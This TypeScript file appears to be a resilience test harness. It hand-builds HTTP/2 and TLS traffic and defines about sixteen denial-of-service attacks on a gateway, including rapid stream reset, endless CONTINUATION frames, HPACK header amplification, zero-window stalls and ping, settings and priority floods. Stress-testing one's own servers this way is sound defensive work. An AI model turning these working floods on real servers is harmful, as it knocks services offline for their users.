import type { Socket } from 'node:net'
import { keepOpen } from './keep-open.ts'
import type { Attack } from './keep-open.ts'

/** RFC 9113, 6. */
const types = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 }
const flags = { none: 0, endStream: 1, endHeaders: 4 }

function frame(type: keyof typeof types, flag: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = types[type]
  head[4] = flag
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

/** A text without Huffman coding (RFC 7541, 5.2). */
function literal(text: string): Buffer {
  const { length } = text
  const size = length < 127 ? [length] : [127, ((length - 127) & 127) | 128, (length - 127) >> 7]
  return Buffer.concat([Buffer.from(size), Buffer.from(text)])
}

/** The fields of a request (RFC 7541, A): its method, https, its path, and an authority. */
const fields = (method: 'GET' | 'POST', path: string, ...more: readonly Buffer[]) =>
  Buffer.concat([
    Buffer.from([method === 'GET' ? 0x82 : 0x83, 0x87, 0x04]),
    literal(path),
    Buffer.from([0x01]),
    literal('a'),
    ...more,
  ])

const jsonType = Buffer.concat([Buffer.from([0x0f, 0x10]), literal('application/json')])
const get = (stream: number, path: string) =>
  frame('headers', flags.endHeaders | flags.endStream, stream, fields('GET', path))
const post = (stream: number, path: string) =>
  frame('headers', flags.endHeaders, stream, fields('POST', path, jsonType))

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
/** A connection begins with settings: these, or others that let no body be sent to this client. */
const begun = Buffer.concat([preface, frame('settings', flags.none, 0)])
const initialWindow = Buffer.from([0, 4, 0, 0, 0, 0])
const begunWithoutWindow = Buffer.concat([preface, frame('settings', flags.none, 0, initialWindow)])

/** The frames of as many streams, from the `from`th of a client on. */
const streams = (count: number, frameOf: (stream: number) => Buffer, from = 0) =>
  Buffer.concat(Array.from({ length: count }, (_, at) => frameOf(2 * (from + at) + 1)))

const again = (count: number, bytes: Buffer) => Buffer.concat(Array.from({ length: count }, () => bytes))

type Http2Attack = {
  readonly count: number
  readonly first: Buffer
  readonly drip?: Buffer | ((turn: number) => Buffer)
  readonly onOpen?: (socket: Socket) => void
}

const attack = (name: string, options: Http2Attack): Attack => ({
  name: `HTTP/2: ${name}`,
  begin: (port, from) => keepOpen({ port, from, protocol: 'h2', everyMs: 100, ...options }),
})

const reset = (stream: number) => frame('reset', flags.none, stream, uint32(8))
const requestAndReset = (stream: number) =>
  Buffer.concat([get(stream, '/api/movies?limit=1000'), reset(stream)])

/** One large field, which is then named by one byte each time (RFC 7541, 6.1 and 6.2.1). */
const namedAgain = Buffer.concat([
  fields('GET', '/health/live', Buffer.from([0x40]), literal('x'), literal('y'.repeat(3_900))),
  Buffer.alloc(12_000, 0xbe),
])
const endless = Buffer.concat([Buffer.from([0x00]), literal('x'), literal('y'.repeat(16_000))])

/** Attacks on a gateway with TLS, by what only TLS and HTTP/2 make possible. */
export const http2Attacks: readonly Attack[] = [
  {
    name: 'TLS: 600 handshakes that drip',
    begin: (port, from) =>
      keepOpen({ port, from, count: 600, first: Buffer.from('1603010200', 'hex'), drip: '\x01' }),
  },
  {
    name: 'TLS: 20 clients that only shake hands, again and again',
    begin: (port, from) =>
      keepOpen({
        port,
        from,
        count: 20,
        first: '',
        protocol: 'h2',
        onOpen: (socket) => socket.once('secureConnect', () => socket.destroy()),
      }),
  },
  attack('600 connections without a request', { count: 600, first: begun }),
  attack('100 bodies withheld on each of 20 connections', {
    count: 20,
    first: Buffer.concat([begun, streams(100, (stream) => post(stream, '/api/movies'))]),
  }),
  attack('100 large responses on each of 20 connections, whose client never admits a byte', {
    count: 20,
    first: Buffer.concat([
      begunWithoutWindow,
      streams(100, (stream) => get(stream, '/api/movies?limit=1000')),
    ]),
  }),
  attack('100 large responses on each of 20 connections, unread', {
    count: 20,
    first: Buffer.concat([begun, streams(100, (stream) => get(stream, '/api/movies?limit=1000'))]),
    onOpen: (socket) => socket.pause(),
  }),
  attack('a large response of which ten bytes are admitted at a time', {
    count: 20,
    first: Buffer.concat([begunWithoutWindow, get(1, '/api/movies?limit=1000')]),
    drip: again(10, frame('window', flags.none, 1, uint32(1))),
  }),
  attack('requests that are reset at once', {
    count: 20,
    first: begun,
    drip: (turn) => streams(50, requestAndReset, 50 * turn),
  }),
  attack('requests that are reset a moment later', {
    count: 20,
    first: begun,
    drip: (turn) =>
      Buffer.concat([
        turn === 0 ? Buffer.alloc(0) : streams(50, reset, 50 * (turn - 1)),
        streams(50, (stream) => get(stream, '/api/movies?limit=1000'), 50 * turn),
      ]),
  }),
  attack('header sections without an end', {
    count: 20,
    first: Buffer.concat([begun, frame('headers', flags.endStream, 1, fields('GET', '/health/live'))]),
    drip: again(10, frame('continuation', flags.none, 1, endless)),
  }),
  attack('fields of 48 MB in 16 KB', {
    count: 20,
    first: begun,
    drip: (turn) => frame('headers', flags.endHeaders | flags.endStream, 2 * turn + 1, namedAgain),
  }),
  attack('frames of data without data', {
    count: 20,
    first: Buffer.concat([begun, post(1, '/api/movies')]),
    drip: again(1_000, frame('data', flags.none, 1)),
  }),
  attack('pings whose answers are not read', {
    count: 20,
    first: begun,
    drip: again(1_000, frame('ping', flags.none, 0, Buffer.alloc(8))),
    onOpen: (socket) => socket.pause(),
  }),
  attack('settings whose answers are not read', {
    count: 20,
    first: begun,
    drip: again(1_000, frame('settings', flags.none, 0, initialWindow)),
    onOpen: (socket) => socket.pause(),
  }),
  attack('priorities of streams that are not open', {
    count: 20,
    first: begun,
    drip: (turn) =>
      streams(1_000, (stream) => frame('priority', flags.none, stream, Buffer.alloc(5)), 1_000 * turn),
  }),
  attack('as many requests at a time as are admitted', {
    count: 20,
    first: begun,
    drip: (turn) => streams(100, (stream) => get(stream, '/api/movies?limit=99'), 100 * turn),
  }),
]
